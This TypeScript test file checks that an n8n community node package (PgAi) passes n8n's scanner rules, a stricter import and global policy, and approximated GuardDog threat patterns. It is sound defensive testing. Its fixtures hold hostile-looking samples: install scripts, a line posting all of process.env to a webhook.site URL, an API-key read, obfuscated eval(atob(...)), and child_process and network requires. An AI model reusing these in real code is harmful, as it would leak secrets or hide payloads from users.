/**
 * The static scan n8n's verification runs on a community package, run here on what would ship.
 *
 * n8n's scanner (@n8n/scan-community-package) lints, with the configuration rebuilt in
 * ./scan/lint.mjs, (1) the unpacked tarball's JavaScript and package.json and (2) the source its
 * npm provenance points at. It also needs that provenance (a publish from GitHub Actions) and runs
 * GuardDog's YARA rules, neither of which can run here (./scan/threat-patterns.ts approximates the
 * YARA rules that apply to JavaScript and package.json). The strict leg is this project's own rule:
 * shipped code loads only n8n-workflow, crypto and its own files, and touches no process, file
 * system, child process, timer, network or global object.
 */
import { appendFileSync, cpSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { describeMessages, errorsOf, fixture, listFiles, lint, readPackageJson, ROOT, unpackTarball } from './helpers';
import { threatFindings } from './scan/threat-patterns';

const readAll = (dir: string) => listFiles(dir).map((path) => ({ path, text: readFileSync(join(dir, path), 'utf8') }));

const TARBALL_FILES = ['**/*.js', 'package.json'];
const SOURCE_FILES = ['package.json', '{nodes,credentials}/**/*.{js,ts,json}'];

describe('static scan of the package', () => {
	let tarball: { dir: string; cleanup: () => void };

	beforeAll(() => {
		tarball = unpackTarball();
	});
	afterAll(() => tarball?.cleanup());

	it('the unpacked tarball passes the rules of n8n’s scanner (compiled JavaScript and package.json)', () => {
		const { files, messages } = lint('scanner', tarball.dir, TARBALL_FILES);
		const shippedJs = listFiles(tarball.dir).filter((file) => file.endsWith('.js'));
		expect(files).toEqual([...shippedJs, 'package.json'].sort());
		expect(describeMessages(errorsOf(messages))).toBe('');
	});

	it('the source passes the rules of n8n’s scanner (nodes, credentials and package.json)', () => {
		const { files, messages } = lint('scanner', ROOT, SOURCE_FILES);
		expect(files).toEqual(
			expect.arrayContaining(['package.json', 'nodes/PgAi/PgAi.node.ts', 'nodes/PgAi/PgAi.node.json', 'credentials/PgAiApi.credentials.ts']),
		);
		expect(describeMessages(errorsOf(messages))).toBe('');
	});

	it('the shipped JavaScript loads only n8n-workflow, crypto and its own files, and uses no process, timer, network or global object', () => {
		const { files, messages } = lint('strict', tarball.dir, ['**/*.js']);
		expect(files).toEqual(listFiles(tarball.dir).filter((file) => file.endsWith('.js')));
		expect(files).toContain('dist/nodes/PgAi/PgAi.node.js');
		expect(describeMessages(messages)).toBe('');
	});

	it('the unpacked tarball matches none of the approximated GuardDog threat patterns', () => {
		expect(threatFindings(readAll(tarball.dir))).toEqual([]);
	});

	describe('each leg fails on bad code', () => {
		/** A copy of the real unpacked tarball with one file changed. */
		const tamperedTarball = (change: (dir: string) => void) => {
			const copy = fixture({});
			cpSync(tarball.dir, copy.dir, { recursive: true });
			change(copy.dir);
			return copy;
		};
		const ruleIds = (messages: ReturnType<typeof errorsOf>) => [...new Set(messages.map((m) => m.ruleId))].sort();

		it('the scanner leg rejects restricted globals, modules, console output and a bad manifest', () => {
			const bad = tamperedTarball((dir) => {
				appendFileSync(
					join(dir, 'dist/nodes/PgAi/PgAi.node.js'),
					"\nconst fs = require('fs');\nsetTimeout(() => console.log(process.env.HOME, fs), 1);\n",
				);
				const pkg = readPackageJson(dir);
				pkg.dependencies = { lodash: '^4.17.21' };
				pkg.scripts = { ...pkg.scripts, postinstall: 'node dist/setup.js' };
				writeFileSync(join(dir, 'package.json'), JSON.stringify(pkg, null, 2));
			});
			try {
				const errors = errorsOf(lint('scanner', bad.dir, TARBALL_FILES).messages);
				expect(ruleIds(errors)).toEqual([
					'@n8n/community-nodes/no-forbidden-lifecycle-scripts',
					'@n8n/community-nodes/no-restricted-globals',
					'@n8n/community-nodes/no-restricted-imports',
					'@n8n/community-nodes/no-runtime-dependencies',
					'no-console',
				]);
			} finally {
				bad.cleanup();
			}
		});

		it('the scanner leg rejects a node source that is not usable as a tool', () => {
			const bad = fixture({
				'package.json': JSON.stringify(readPackageJson()),
				'nodes/Bad/Bad.node.ts': [
					"import { NodeConnectionTypes, type INodeType, type INodeTypeDescription } from 'n8n-workflow';",
					'export class Bad implements INodeType {',
					'\tdescription: INodeTypeDescription = {',
					"\t\tdisplayName: 'Bad', name: 'bad', icon: { light: 'file:bad.svg', dark: 'file:bad.dark.svg' },",
					"\t\tgroup: ['transform'], version: 1, description: 'Bad node', defaults: { name: 'Bad' },",
					'\t\tinputs: [NodeConnectionTypes.Main], outputs: [NodeConnectionTypes.Main], properties: [],',
					'\t};',
					'}',
				].join('\n'),
			});
			try {
				const errors = errorsOf(lint('scanner', bad.dir, SOURCE_FILES).messages);
				expect(ruleIds(errors)).toContain('@n8n/community-nodes/node-usable-as-tool');
			} finally {
				bad.cleanup();
			}
		});

		it('the threat patterns find install scripts, secret reads, shady links and obfuscation', () => {
			const js = (text: string) => ({ path: 'dist/x.js', text });
			expect(
				threatFindings([
					{ path: 'package.json', text: '{ "scripts": { "preinstall": "node x.js" } }' },
					js('const k = process.env.OPENAI_API_KEY;'),
					js("post('https://webhook.site/abc', JSON.stringify(process.env));"),
					js('if ([!![]]+[]) {}'),
					js('String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 101, 118, 105, 108);'),
					js('eval(atob("YWxlcnQoMSk="));'),
				]),
			).toEqual([
				'package.json: npm-preinstall-script',
				'dist/x.js: runtime-environment-read',
				'dist/x.js: runtime-environment-read',
				'dist/x.js: network-outbound-shady-links',
				'dist/x.js: runtime-obfuscation-jsfuck',
				'dist/x.js: runtime-obfuscation-fromcharcode',
				'dist/x.js: runtime-obfuscation-base64-exec',
			]);
		});

		it('the strict leg rejects what the scanner lets through: a devDependency, and each forbidden global or module', () => {
			const cases: Record<string, string> = {
				'devdependency.js': "require('n8n-core');",
				'fs.js': "require('fs');",
				'child-process.js': "require('node:child_process');",
				'http.js': "require('http'); require('https'); require('net');",
				'computed.js': "const name = 'fs'; require(name);",
				'missing.js': "require('./not-shipped');",
				'outside.js': "require('../../outside');",
				'require-resolve.js': "require.resolve('n8n-workflow');",
				'module-require.js': "module.require('fs');",
				'process.js': 'exports.home = process.env.HOME;',
				'timers.js': 'setTimeout(() => 0, 1); setInterval(() => 0, 1); setImmediate(() => 0);',
				'global-this.js': "exports.g = globalThis['process'];",
				'eval.js': "eval('1'); new Function('return 1');",
				'fetch.js': "fetch('https://example.com');",
			};
			const expected: Record<string, string[]> = {
				'devdependency.js': ["Loads 'n8n-core'"],
				'fs.js': ["Loads 'fs'"],
				'child-process.js': ["Loads 'node:child_process'"],
				'http.js': ["Loads 'http'", "Loads 'https'", "Loads 'net'"],
				'computed.js': ['Module loaded by a computed name'],
				'missing.js': ["'./not-shipped' does not resolve"],
				'outside.js': ["'../../outside' does not resolve"],
				'require-resolve.js': ['`require` used other than as require(<literal>)'],
				'module-require.js': ['`module` used other than as module.exports'],
				'process.js': ["Uses the global 'process'"],
				'timers.js': ["Uses the global 'setTimeout'", "Uses the global 'setInterval'", "Uses the global 'setImmediate'"],
				'global-this.js': ["Uses the global 'globalThis'"],
				'eval.js': ["Uses the global 'eval'", "Uses the global 'Function'"],
				'fetch.js': ["Uses the global 'fetch'"],
			};
			const bad = tamperedTarball((dir) => {
				for (const [name, code] of Object.entries(cases)) writeFileSync(join(dir, 'dist', name), `${code}\n`);
			});
			try {
				// n8n's own rules let a devDependency through: the scanner's package.json lists n8n-core.
				const scannerErrors = errorsOf(lint('scanner', bad.dir, ['dist/devdependency.js']).messages);
				expect(describeMessages(scannerErrors)).toBe('');

				const { messages } = lint('strict', bad.dir, ['dist/*.js']);
				for (const [name, fragments] of Object.entries(expected)) {
					const found = messages.filter((m) => m.file === `dist/${name}`).map((m) => m.message);
					expect({ name, found }).toEqual({
						name,
						found: fragments.map((fragment) => expect.stringContaining(fragment)),
					});
				}
			} finally {
				bad.cleanup();
			}
		});
	});
});
